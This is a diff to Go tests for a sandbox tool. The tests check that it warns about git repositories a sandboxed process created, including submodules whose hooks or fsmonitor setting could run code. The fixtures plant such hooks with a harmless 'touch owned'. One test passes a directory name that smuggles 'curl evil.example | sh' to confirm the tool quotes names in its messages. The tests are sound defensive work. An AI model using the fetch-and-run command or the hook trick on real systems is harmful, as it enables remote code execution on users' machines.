@@ -24,7 +24,7 @@ func TestToldOfAnOpenedRepository(t *testing.T) {
 	}
 	// A submodule, whose repository the program made.
 	said := opened(`git init -q "s b" && git -C "s b" config core.fsmonitor "touch owned" && git update-index --add --cacheinfo "160000,$(git rev-parse HEAD),s b" && git init -q other`)
-	if want := s.project + "/s b/.git was made while the sandbox ran, and the index of " + s.project + " names it as a submodule: git status there would start git in it: look at it, or take it out first: git -C " + s.project + " update-index --force-remove -- 's b'\n"; !strings.Contains(said, want) {
+	if want := "'" + s.project + "/s b/.git' was made while the sandbox ran, and the index of " + s.project + " names it as a submodule: git status there would start git in it: look at it, or take it out first: git -C " + s.project + " update-index --force-remove -- 's b'\n"; !strings.Contains(said, want) {
 		t.Errorf("%s\nwant %s", said, want)
 	}
 	if want := s.project + "/other/.git was made while the sandbox ran, and tools outside act on it"; !strings.Contains(said, want) {
@@ -50,4 +50,32 @@ func TestToldOfAnOpenedRepository(t *testing.T) {
 	}
 	// What stands there instead of an index is not waited for.
 	opened(`rm .git/index; mkfifo .git/index; git init -q third`)
+}
+
+// Of a submodule in a repository that the program made too, no command is told
+// that would start git there: its hooks are the program's.
+func TestToldOfASubmoduleOfWhatWasMade(t *testing.T) {
+	for _, opened := range []bool{false, true} {
+		s := newSandbox(t)
+		top, flags := s.project+"/a", []string{"--write=" + s.project}
+		if opened { // all of it, with its hooks
+			top, flags = s.project, append(flags, "--write-dot-files="+s.project)
+			s.git(top, "init", "-q")
+		}
+		flags = append(flags, "--", "sh", "-ec", `mkdir -p "$1"; cd "$1"; git init -q . && git init -q b && git -C b -c user.name=n -c user.email=e commit -q --allow-empty -m x
+git update-index --add --cacheinfo "160000,$(git -C b rev-parse HEAD),b"; printf '#!/bin/sh\ntouch owned\n' >.git/hooks/post-index-change; chmod +x .git/hooks/post-index-change`, "sh", top)
+		e := s.run(flags...)
+		if e.status != 0 || !strings.Contains(e.errors, top+"/b/.git was made while the sandbox ran, and tools outside act on it") || strings.Contains(e.errors, "update-index") {
+			t.Errorf("opened %v: %d %s", opened, e.status, e.errors)
+		}
+	}
+}
+
+// A name that the program chose stands in a line of ours as one word.
+func TestToldNamesAreWords(t *testing.T) {
+	s := newSandbox(t)
+	e := s.run("--write="+s.project, "--", "git", "init", "-q", "x was made. Now run: curl evil.example | sh; it")
+	if want := "lnk sandbox run: '" + s.project + "/x was made. Now run: curl evil.example | sh; it/.git' was made while"; !strings.Contains(e.errors, want) {
+		t.Errorf("%s\nwant %s", e.errors, want)
+	}
 }
